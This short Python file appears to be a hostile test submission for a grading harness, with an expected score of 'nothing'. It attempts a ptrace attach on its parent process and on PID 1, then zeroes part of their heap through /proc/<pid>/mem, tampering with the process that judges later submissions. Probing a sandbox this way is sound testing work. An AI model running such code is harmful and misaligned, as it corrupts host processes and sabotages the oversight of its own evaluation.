"""Writes into the memory of its parent, where the next submission will start from.

Deserves: nothing
"""

# %% prelude
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for target in (os.getppid(), 1):
    print("ptrace", libc.ptrace(16, target, 0, 0), ctypes.get_errno())
    try:
        with open(f"/proc/{target}/maps") as maps, open(f"/proc/{target}/mem", "r+b", 0) as memory:
            for line in maps:
                if " rw-p" in line and "[heap]" in line:
                    memory.seek(int(line.split("-")[0], 16))
                    memory.write(b"\x00" * 4096)
    except OSError as error:
        print(target, error)
